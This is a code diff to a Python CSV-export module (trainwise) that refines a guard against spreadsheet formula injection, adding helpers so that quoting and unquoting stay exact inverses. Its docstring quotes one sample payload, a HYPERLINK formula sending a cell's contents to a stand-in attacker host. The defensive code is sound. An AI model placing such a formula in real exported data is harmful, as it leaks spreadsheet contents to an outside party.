@@ -6,7 +6,8 @@ a class named `=HYPERLINK("http://evil.example/?"&A1,"ok")` landed as a live for
 with = + - @ a tab or a carriage return gets a leading single quote, which spreadsheets show
 as text and hide. Numbers are left as they are, text that reads as one too ('-0.5', '-3',
 a class named -1): a spreadsheet takes those as numbers, never formulas, and a join on them
-must still match. trainwise's own readers undo the quote (`unquoted`).
+must still match; so is a lone sign ('+', '-'). trainwise's own readers undo the quote
+(`unquoted`, safe_cell's exact inverse).
 """
 
 from __future__ import annotations
@@ -28,19 +29,29 @@ def _is_number(text: str) -> bool:
     return True
 
 
+def _formula(text: str) -> bool:
+    # a lone sign or @ has no payload: '+' and '-' are common labels (sentiment, DNA strand),
+    # and quoting them broke a join of predictions.csv on the truth (review s16 VS7)
+    return len(text) > 1 and text.startswith(FORMULA_STARTS) and not _is_number(text)
+
+
+def _escaped(text: str) -> bool:
+    """`text` is (or would read as) safe_cell's quote on a formula: a class literally named
+    "'=x" is quoted too, so that unquoted gives back exactly what safe_cell was given."""
+    return text.startswith(QUOTE) and (_formula(text[1:]) or _escaped(text[1:]))
+
+
 def safe_cell(value: Any) -> Any:
     """`value` with a leading quote when it is text a spreadsheet would run as a formula."""
-    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _is_number(value):
+    if isinstance(value, str) and (_formula(value) or _escaped(value)):
         return QUOTE + value
     return value
 
 
 def unquoted(value: Any) -> Any:
-    """`safe_cell` undone: what a reader of trainwise's own CSV files compares."""
-    if isinstance(value, str) and value.startswith(QUOTE) and \
-            value[1:].startswith(FORMULA_STARTS) and not _is_number(value[1:]):
-        return value[1:]
-    return value
+    """`safe_cell` undone, exactly: what a reader of trainwise's own CSV files compares
+    (pandas: `df["prediction"].map(unquoted)`)."""
+    return value[1:] if isinstance(value, str) and _escaped(value) else value
 
 
 def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
